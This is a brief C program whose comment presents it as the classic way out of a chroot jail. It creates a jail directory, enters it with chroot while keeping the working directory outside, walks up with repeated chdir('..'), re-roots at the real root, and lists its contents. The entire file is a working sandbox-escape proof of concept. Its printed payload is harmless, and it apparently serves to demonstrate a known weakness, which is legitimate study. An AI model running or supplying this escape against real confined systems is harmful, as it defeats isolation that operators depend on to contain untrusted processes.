/* The classic way out of a chroot: a directory that lies outside of the new one, then up as far as it goes. Prints the names in
 * the directory it arrives at. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	struct dirent *entry;
	DIR *dir;

	mkdir("/tmp/jail", 0755);
	if (chdir("/") < 0 || chroot("/tmp/jail") < 0) {
		perror("chroot");
		return 1;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			return 1;
	if (chroot(".") < 0)
		return 1;
	dir = opendir("/");
	while (dir && (entry = readdir(dir)))
		puts(entry->d_name);
	return 0;
}
